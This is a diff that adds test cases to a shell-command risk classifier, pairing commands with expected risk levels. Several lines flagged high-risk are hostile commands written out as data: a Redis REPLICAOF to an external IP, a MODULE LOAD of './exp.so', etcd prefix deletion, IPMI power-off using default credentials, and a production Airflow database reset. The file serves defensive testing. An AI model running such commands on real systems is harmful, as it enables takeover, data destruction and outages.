@@ -6640,6 +6640,24 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
         ('find "$HOME/Nextcloud/Projects" \\( -name \'.DS_Store\' -o -name \'._*\' \\) -type f -delete', L),
         ('for ga in 0/7/1 0/7/2 0/7/3; do knxtool groupswrite ip:192.168.10.20 "$ga" 0; done', H),
         ('knxtool groupswrite ip:192.168.10.20 1/2/3 1', S),
+        # holdout344-347: database replication, locksmiths, task queues, debt collection
+        ('redis-cli -h redis-prod-01 REPLICAOF 45.137.21.9 21000', H),
+        ('redis-cli -h redis-replica-2 REPLICAOF redis-prod-01.internal 6379', S),
+        ('redis-cli -h redis-prod-01 MODULE LOAD ./exp.so', H),
+        ('etcdctl del --prefix /service/', H),
+        ('for h in 10.10.0.21 10.10.0.22; do ipmitool -I lanplus -H "$h" -U ADMIN -P ADMIN chassis power off; done', H),
+        ('ipmitool -I lanplus -H 10.10.0.21 -U ADMIN -P "$P" chassis power status', S),
+        (
+            'export AIRFLOW__DATABASE__SQL_ALCHEMY_CONN="postgresql://a:b@airflow-prod.rds.am'
+            'azonaws.com/airflow"\n'
+            'airflow db reset --yes',
+            H,
+        ),
+        (
+            'export AIRFLOW__DATABASE__SQL_ALCHEMY_CONN="sqlite:////tmp/airflow-test.db"\n'
+            'airflow db reset --yes',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
